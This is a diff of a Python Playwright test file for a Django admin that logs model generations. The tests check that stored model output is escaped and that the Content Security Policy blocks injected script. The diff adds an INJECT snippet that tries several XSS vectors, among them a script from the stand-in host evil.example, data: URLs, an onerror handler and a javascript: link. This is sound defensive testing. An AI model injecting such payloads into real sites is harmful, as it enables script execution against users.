@@ -7,8 +7,8 @@ from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from pathlib import Path
 
-import pytest
 from asgiref.sync import sync_to_async
+from django.conf import global_settings
 from django.contrib.auth import get_user_model
 
 from generation.admin import first_id
@@ -46,15 +46,47 @@ HOSTILE = [
 ]
 
 
+INJECT = """code => {
+    window.blocked = 0;
+    document.addEventListener("securitypolicyviolation", () => window.blocked++);
+    const inline = document.createElement("script");
+    inline.textContent = code;
+    document.body.append(inline);
+    const foreign = document.createElement("script");
+    foreign.src = "https://evil.example/x.js";
+    document.body.append(foreign);
+    const data = document.createElement("script");
+    data.src = "data:text/javascript," + encodeURIComponent(code);
+    document.body.append(data);
+    document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="${code}">`);
+    const link = document.createElement("a");
+    link.href = "javascript:" + code;
+    document.body.append(link);
+    link.click();
+}"""
+PASSWORD = "a right one 7"
+
+
+async def log_in(visitor, settings) -> None:
+    """Through the form, as a person does."""
+    settings.PASSWORD_HASHERS = global_settings.PASSWORD_HASHERS  # the service's, not the tests'
+    users = get_user_model().objects
+    await sync_to_async(users.create_superuser)("admin", password=PASSWORD, id=50)
+    await visitor.open("/admin/")
+    await visitor.page.fill("[name=username]", "admin")
+    await visitor.page.fill("[name=password]", PASSWORD)
+    await visitor.page.press("[name=password]", "Enter")
+    await visitor.page.wait_for_url("**/admin/")
+
+
 async def ran(page) -> int:
     return await page.evaluate("window.ran || 0")
 
 
-@pytest.mark.parametrize("path", PAGES)
-async def test_a_page_asks_for_nothing_that_its_policy_forbids(watched, path):
-    watched.faults.clear()
-    await watched.open(path)
-    assert watched.faults == []
+async def test_no_page_asks_for_anything_that_its_policy_forbids(watched):
+    for path in PAGES:
+        await watched.open(path)
+        assert watched.faults == [], path
 
 
 async def test_the_look_is_alive_under_the_policy(watched):
@@ -62,13 +94,14 @@ async def test_the_look_is_alive_under_the_policy(watched):
     await watched.open(LOGS)
     filters = watched.page.get_by_text("Apply filters").first
     assert not await filters.is_visible()
-    await watched.page.get_by_text("Filters", exact=True).first.click()
+    await watched.page.click("a:has-text('filter_list')")  # the button's icon
     await filters.wait_for(state="visible")
     await watched.open("/api/v1/docs")
     await watched.page.get_by_text("Generate a text for a user").wait_for(state="visible")
 
 
-async def test_no_output_of_a_model_runs(watched):
+async def test_no_output_of_a_model_runs(visitor, settings):
+    await log_in(visitor, settings)
     text = "\n".join(HOSTILE)
     log = make_log(
         prompt=text, system=text, result=text, error=text, error_type=HOSTILE[1][:64],
@@ -77,43 +110,23 @@ async def test_no_output_of_a_model_runs(watched):
     )  # fmt: skip
     await sync_to_async(log.save)(force_insert=True)
     for path in ("/admin/", LOGS, f"{LOGS}{log.pk}/change/", f"{LOGS}?q={HOSTILE[0]}"):
-        watched.faults.clear()
-        await watched.open(path)
-        assert await ran(watched.page) == 0, path
-        assert watched.dialogs == [], path
-        assert watched.faults == [], path
-    await watched.open(f"{LOGS}{log.pk}/change/")
-    shown = await watched.page.locator("[data-field=result]").inner_text()
+        visitor.faults.clear()
+        await visitor.open(path)
+        assert await ran(visitor.page) == 0, path
+        assert visitor.dialogs == [], path
+        assert visitor.faults == [], path
+    await visitor.open(f"{LOGS}{log.pk}/change/")
+    shown = await visitor.page.locator("[data-field=result]").inner_text()
     assert shown.split() == text.split(), "the reviewer sees what the model said"
 
 
-@pytest.mark.parametrize("path", ["/", LOGS, "/api/v1/docs"])
-async def test_what_gets_past_the_escaping_is_stopped_by_the_policy(watched, path):
-    await watched.open(path)
-    await watched.page.evaluate(
-        """code => {
-            window.blocked = 0;
-            document.addEventListener("securitypolicyviolation", () => window.blocked++);
-            const inline = document.createElement("script");
-            inline.textContent = code;
-            document.body.append(inline);
-            const foreign = document.createElement("script");
-            foreign.src = "https://evil.example/x.js";
-            document.body.append(foreign);
-            const data = document.createElement("script");
-            data.src = "data:text/javascript," + encodeURIComponent(code);
-            document.body.append(data);
-            document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="${code}">`);
-            const link = document.createElement("a");
-            link.href = "javascript:" + code;
-            document.body.append(link);
-            link.click();
-        }""",
-        RUN,
-    )
-    await watched.page.wait_for_function("window.blocked >= 5")
-    assert await ran(watched.page) == 0
-    assert watched.dialogs == []
+async def test_what_gets_past_the_escaping_is_stopped_by_the_policy(watched):
+    for path in ("/", LOGS, "/api/v1/docs"):
+        await watched.open(path)
+        await watched.page.evaluate(INJECT, RUN)
+        await watched.page.wait_for_function("window.blocked >= 5")
+        assert await ran(watched.page) == 0, path
+        assert watched.dialogs == [], path
 
 
 async def test_a_key_is_made_and_shown(watched):
@@ -166,6 +179,7 @@ def fill() -> GenerationLog:
         provider, model = MODELS[(n * 7 + n // 5) % 5]
         moment = now - timedelta(seconds=43 * n + (n * 17) % 29)
         values = {
+            "status": "succeeded",
             "user_id": 17 if n == 8 else (n * 3) % 10 + 1,
             "prompt": prompt.replace("$input", INPUTS[number]),
             "result": LETTER,
@@ -189,7 +203,7 @@ def fill() -> GenerationLog:
             values |= {"total_tokens": None, "cost_usd": None, "result": ""}
         logs.append(GenerationLog(**values))
     chosen = logs[26]
-    chosen.status, chosen.user_id = "succeeded", 9
+    chosen.user_id = 9
     chosen.provider, chosen.model, chosen.attempts = "anthropic", "claude-sonnet-5-5", ATTEMPTS
     GenerationLog.objects.bulk_create(logs)
     assert chosen.pk > first_id(now - timedelta(days=1))
@@ -201,6 +215,7 @@ async def test_the_pictures_of_the_readme_can_be_taken(watched, tmp_path):
     chosen = await sync_to_async(fill)()
     assert await Profile.objects.aexists()
     folder = Path(os.environ.get("STACCATO_SCREENSHOTS") or tmp_path)
+    await watched.page.set_viewport_size({"width": 1400, "height": 980})
     for name, path in (("list", LOGS), ("detail", f"{LOGS}{chosen.pk}/change/")):
         await watched.open(path)
         await watched.page.evaluate("document.fonts.ready")
